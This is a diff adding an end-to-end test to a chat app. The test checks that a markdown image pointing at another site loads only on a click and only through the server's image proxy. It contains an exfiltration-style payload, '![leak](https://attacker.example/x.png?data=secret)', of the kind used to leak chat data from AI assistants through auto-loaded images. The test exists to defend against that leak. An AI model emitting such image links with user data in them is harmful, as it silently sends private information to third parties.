@@ -214,3 +214,34 @@ test('a chat from an app: fixed-role hint, and the app’s system prompt is used
   });
   expect(again.rows).toHaveLength(1);
 });
+
+test('a picture of another site in an answer loads only on a click, through the server', async ({
+  page,
+  request,
+}) => {
+  const user = await registerUser(request, 'pic');
+  // Anything the browser asks of that site itself (the proxy's own address names it too).
+  const direct: string[] = [];
+  page.on('request', (r) => {
+    if (new URL(r.url()).hostname === 'attacker.example') direct.push(r.url());
+  });
+  await open(page, user.token, '/Chat');
+  const input = page.getByTestId('chat-input');
+  // The demo answer repeats the question, so it carries the picture back.
+  await input.fill('![leak](https://attacker.example/x.png?data=secret)');
+  await input.press('Enter');
+  const answer = page.locator('[data-testid="chat-message"][data-role="assistant"]').last();
+  await expect(answer).toHaveAttribute('data-state', 'done', { timeout: 15_000 });
+  const button = answer.getByTestId('remote-image');
+  await expect(button).toContainText('Show the picture from attacker.example');
+  await expect(answer.locator('img')).toHaveCount(0);
+
+  const proxied = page.waitForRequest('**/api/proxy/image?**');
+  await button.click();
+  expect(new URL((await proxied).url()).searchParams.get('url')).toBe(
+    'https://attacker.example/x.png?data=secret',
+  );
+  // The test machine reaches no such site: the proxy says so, and the page stays whole.
+  await expect(button).toContainText('cannot be shown');
+  expect(direct).toEqual([]);
+});
